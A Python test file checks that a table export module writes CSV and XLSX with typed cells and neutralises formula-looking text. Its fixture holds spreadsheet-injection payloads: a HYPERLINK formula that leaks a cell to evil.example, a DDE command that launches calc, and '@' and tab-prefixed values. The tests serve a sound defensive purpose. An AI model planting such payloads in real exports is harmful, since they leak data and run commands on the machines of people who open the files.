"""core/exports.py: one table, as CSV or XLSX, with typed cells and formulas neutralised."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

from openpyxl import load_workbook

from core import exports

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
TABLE = exports.Table(
    "things",
    "Things: a [test]",
    [
        exports.Column("Name"),
        exports.Column("Budget", exports.MONEY),
        exports.Column("Due", exports.DATE),
        exports.Column("Done", exports.PERCENT),
        exports.Column("Month", exports.MONTH),
        exports.Column("CPI", exports.RATIO),
        exports.Column("Flag"),
    ],
    [
        [FORMULA, Decimal("1234.5"), date(2026, 3, 31), Decimal("45"), date(2026, 2, 1),
         Decimal("0.9512"), True],
        ["-cmd|' /C calc'!A0", -5, None, None, None, None, False],
        ["@SUM(1)", None, None, None, None, None, None],
        ["\tTab", 0, None, None, None, None, None],
        ["plain\x07bell", 1, None, None, None, None, None],
    ],
)  # fmt: skip


def workbook(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_xlsx_cells_are_typed():
    response = exports.table_response(TABLE, exports.XLSX)
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="things.xlsx"'
    sheet = workbook(response)
    assert sheet.title == "Things  a  test"
    assert [c.value for c in sheet[1]] == ["Name", "Budget", "Due", "Done", "Month", "CPI", "Flag"]
    name, budget, due, done, month, cpi, flag = sheet[2]
    assert (budget.data_type, budget.value, budget.number_format) == ("n", 1234.5, "#,##0.00")
    assert isinstance(due.value, datetime | date) and due.is_date
    assert due.value.date() == date(2026, 3, 31)
    assert due.number_format == "yyyy-mm-dd"
    assert (done.value, done.number_format) == (0.45, "0.0%")
    assert month.is_date and month.number_format == "yyyy-mm"
    assert cpi.value == 0.9512
    assert flag.value == "yes"
    assert sheet["B3"].value == -5 and sheet["B3"].data_type == "n"
    assert sheet["C3"].value is None  # an empty cell, not a text ""


def test_xlsx_formula_looking_text_comes_back_as_inert_text():
    sheet = workbook(exports.table_response(TABLE, exports.XLSX))
    for row, text in ((2, FORMULA), (3, "-cmd|' /C calc'!A0"), (4, "@SUM(1)"), (5, "\tTab")):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s", text  # a string, never "f" (a formula)
        assert cell.value == text
        assert cell.quotePrefix
    assert sheet["A6"].value == "plainbell"  # a control character XML cannot hold is dropped


def test_the_same_table_as_csv_is_neutralised_and_plain():
    response = exports.table_response(TABLE, exports.CSV)
    assert response["Content-Disposition"] == 'attachment; filename="things.csv"'
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert lines[1] == ["'" + FORMULA, "1234.50", "2026-03-31", "45.00", "2026-02", "0.9512", "yes"]
    assert lines[2][:2] == ["'-cmd|' /C calc'!A0", "-5.00"]
    assert lines[3][0] == "'@SUM(1)"


def test_only_csv_and_xlsx_are_formats(rf):
    assert exports.requested_format(rf.get("/", {"format": "xlsx"})) == "xlsx"
    assert exports.requested_format(rf.get("/", {"format": "csv"})) == "csv"
    assert exports.requested_format(rf.get("/", {"format": "pdf"})) is None
    assert exports.requested_format(rf.get("/")) is None
